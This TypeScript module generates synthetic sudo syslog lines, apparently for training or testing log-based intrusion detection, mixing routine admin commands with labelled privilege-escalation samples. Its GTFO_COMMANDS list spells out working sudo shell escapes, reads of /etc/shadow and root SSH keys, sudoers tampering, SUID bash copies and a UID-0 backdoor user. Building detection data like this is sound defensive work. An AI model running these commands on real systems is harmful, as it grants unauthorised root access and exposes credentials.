/**
 * sudo lines: admin routine and one-off typos versus shell escapes and sudo abuse by service
 * accounts.
 *
 * @module
 */
import type { Ctx, Template } from "../types.ts";
import { syslog } from "../format.ts";
import { authPid, humanUid, siteUser, tpl } from "./auth_common.ts";
import { admin, EVIL_PWD, home, privHost, svc, tty } from "./auth_priv_common.ts";

/** Routine admin commands (benign). */
const ADMIN_COMMANDS = [
  "/usr/bin/systemctl restart nginx",
  "/usr/bin/systemctl status apache2",
  "/bin/systemctl reload postfix",
  "/usr/bin/apt update",
  "/usr/bin/apt upgrade -y",
  "/usr/bin/apt-get install -y htop",
  "/usr/bin/journalctl -u sshd --since today",
  "/usr/bin/journalctl -xe",
  "/usr/bin/docker ps",
  "/usr/bin/docker compose up -d",
  "/usr/bin/vim /etc/nginx/sites-available/default",
  "/usr/bin/vi /etc/hosts",
  "/usr/bin/tail -f /var/log/syslog",
  "/usr/bin/less /var/log/auth.log",
  "/usr/sbin/reboot",
  "/usr/bin/dnf -y update",
  "/usr/bin/yum install httpd",
  "/usr/sbin/ufw status",
  "/usr/bin/certbot renew",
  "/usr/sbin/iptables -L -n",
  "/usr/bin/mount -a",
  "/usr/bin/crontab -e",
  "/usr/sbin/usermod -aG docker deploy",
  "/usr/bin/chown -R www-data:www-data /var/www/html",
  "/usr/bin/kubectl get pods -A",
  "/usr/sbin/nginx -t",
  "/usr/bin/snap refresh",
  "/usr/bin/du -sh /var/lib/docker",
  "/usr/bin/cp config.yml /etc/app/config.yml",
  "/usr/sbin/postqueue -f",
  "/usr/bin/rsync -a /srv/data/ /backup/data/",
  "/bin/ls /root",
];

/** Shell escapes and sensitive reads run through sudo (privilege escalation). */
const GTFO_COMMANDS = [
  "/bin/bash",
  "/bin/sh",
  "/usr/bin/bash -i",
  "/bin/su -",
  "/usr/bin/su root",
  "/usr/bin/cat /etc/shadow",
  "/bin/cat /etc/shadow",
  "/usr/bin/cat /root/.ssh/id_rsa",
  "/usr/bin/find . -exec /bin/sh \\; -quit",
  "/usr/bin/find /etc -name passwd -exec /bin/bash -p \\;",
  "/usr/bin/vim -c :!/bin/sh",
  "/usr/bin/vi -c :!/bin/bash",
  '/usr/bin/awk BEGIN {system("/bin/sh")}',
  '/usr/bin/python3 -c import os; os.system("/bin/sh")',
  '/usr/bin/python -c import pty;pty.spawn("/bin/bash")',
  "/bin/tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
  "/usr/bin/env /bin/sh",
  '/usr/bin/perl -e exec "/bin/sh";',
  "/usr/bin/nmap --interactive",
  "/usr/bin/zip /tmp/x.zip /etc/hosts -T -TT sh #",
  "/usr/bin/docker run -v /:/mnt --rm -it alpine chroot /mnt sh",
  '/usr/bin/ruby -e exec "/bin/sh"',
  '/usr/bin/lua -e os.execute("/bin/sh")',
  '/usr/bin/rsync -e sh -c "sh 0<&2 1>&2" 127.0.0.1:/dev/null',
  "/usr/bin/tee -a /etc/sudoers",
  "/usr/bin/cp /bin/bash /tmp/.rootbash",
  "/bin/chmod +s /bin/bash",
  "/usr/bin/chmod u+s /tmp/.sh",
  "/usr/bin/sed -n 1e exec sh 1>&0 /etc/hosts",
  "/usr/bin/mysql -e \\! /bin/sh",
  '/usr/bin/node -e require("child_process").spawn("/bin/sh",{stdio:[0,1,2]})',
  '/usr/bin/php -r system("/bin/sh");',
  "/usr/bin/socat stdin exec:/bin/sh",
  "/usr/sbin/useradd -o -u 0 -g 0 -M -d /root -s /bin/bash backdoor",
  "/usr/bin/busybox sh",
  "/usr/bin/dd if=/etc/shadow",
  "/usr/bin/base64 /etc/shadow",
];

function sudo(c: Ctx, msg: string): string {
  return syslog(c, privHost(c), "sudo", c.rng.chance(0.5) ? null : authPid(c), msg, "authpriv");
}

/** `user : [what ; ]TTY=.. ; PWD=.. ; USER=.. ; COMMAND=..` as sudo logs it (name padded to 8). */
function sudoLine(
  c: Ctx,
  u: string,
  pwd: string,
  cmd: string,
  what = "",
  t = tty(c),
  runas = "root",
): string {
  const pre = what ? `${what} ; ` : "";
  return `${
    " ".repeat(Math.max(0, 8 - u.length))
  }${u} : ${pre}TTY=${t} ; PWD=${pwd} ; USER=${runas} ; COMMAND=${cmd}`;
}

const BENIGN: Template[] = [
  tpl("sudo", "benign", 8, (c) => {
    const u = admin(c);
    return sudo(
      c,
      sudoLine(
        c,
        u,
        c.rng.pick([home(u), "/etc/nginx", "/srv/app", "/var/log", "/tmp", "/opt"]),
        c.rng.pick(ADMIN_COMMANDS),
      ),
    );
  }),
  tpl("sudo", "benign", 5, (c) => {
    const u = admin(c);
    return sudo(
      c,
      c.rng.chance(0.5)
        ? `pam_unix(sudo:session): session opened for user root${
          c.rng.chance(0.6) ? "(uid=0)" : ""
        } by ${u}(uid=${humanUid(c)})`
        : `pam_unix(sudo:session): session closed for user root`,
    );
  }),
  tpl("sudo", "benign", 3, (c) => {
    const u = admin(c);
    return sudo(
      c,
      sudoLine(c, u, home(u), c.rng.pick(ADMIN_COMMANDS), "1 incorrect password attempt"),
    );
  }),
  tpl("sudo", "benign", 3, (c) => {
    const u = admin(c);
    return sudo(
      c,
      c.rng.weighted([
        [
          `pam_unix(sudo:auth): authentication failure; logname=${u} uid=${
            humanUid(c)
          } euid=0 tty=/dev/${tty(c)} ruser=${u} rhost=  user=${u}`,
          3,
        ],
        [`pam_unix(sudo:auth): conversation failed`, 1],
        [`pam_unix(sudo:auth): auth could not identify password for [${u}]`, 1],
      ]),
    );
  }),
];

const PRIVESC: Template[] = [
  tpl("sudo", "privilege_escalation", 6, (c) => {
    const [u] = svc(c);
    return sudo(
      c,
      sudoLine(
        c,
        u,
        c.rng.pick(EVIL_PWD),
        c.rng.pick([...GTFO_COMMANDS, "list", "/usr/bin/id"]),
        "",
        c.rng.pick(["unknown", "pts/0", "pts/1"]),
      ),
    );
  }),
  tpl("sudo", "privilege_escalation", 6, (c) => {
    const u = c.rng.chance(0.6) ? svc(c)[0] : siteUser(c);
    return sudo(
      c,
      sudoLine(
        c,
        u,
        c.rng.pick(EVIL_PWD),
        c.rng.pick([...GTFO_COMMANDS, "list"]),
        "user NOT in sudoers",
      ),
    );
  }),
  tpl("sudo", "privilege_escalation", 6, (c) => {
    const u = c.rng.pick(c.sc.users);
    return sudo(c, sudoLine(c, u, c.rng.pick([home(u), ...EVIL_PWD]), c.rng.pick(GTFO_COMMANDS)));
  }),
  tpl("sudo", "privilege_escalation", 3, (c) => {
    const u = c.rng.chance(0.5) ? svc(c)[0] : c.rng.pick(c.sc.users);
    const what = c.rng.weighted([[`${c.rng.int(2, 3)} incorrect password attempts`, 3], [
      "command not allowed",
      2,
    ], ["a password is required", 1]]);
    return sudo(
      c,
      sudoLine(
        c,
        u,
        c.rng.pick(EVIL_PWD),
        c.rng.pick(["/bin/bash", "/bin/sh", "list", "/usr/bin/su"]),
        what,
      ),
    );
  }),
  tpl("sudo", "privilege_escalation", 2, (c) => {
    const u = c.rng.pick(c.sc.users);
    return sudo(
      c,
      sudoLine(
        c,
        u,
        home(u),
        c.rng.pick(["/bin/bash", "/bin/sh", "/usr/bin/id"]),
        "",
        tty(c),
        c.rng.pick(["#-1", "#4294967295"]),
      ),
    );
  }),
  tpl("sudo", "privilege_escalation", 2, (c) => {
    const [u, uid] = svc(c);
    return sudo(
      c,
      `pam_unix(sudo:auth): authentication failure; logname=${u} uid=${uid} euid=0 tty=/dev/${
        tty(c)
      } ruser=${u} rhost=  user=${u}`,
    );
  }),
];

/** The sudo templates. */
export const SUDO_TEMPLATES: Template[] = [...BENIGN, ...PRIVESC];
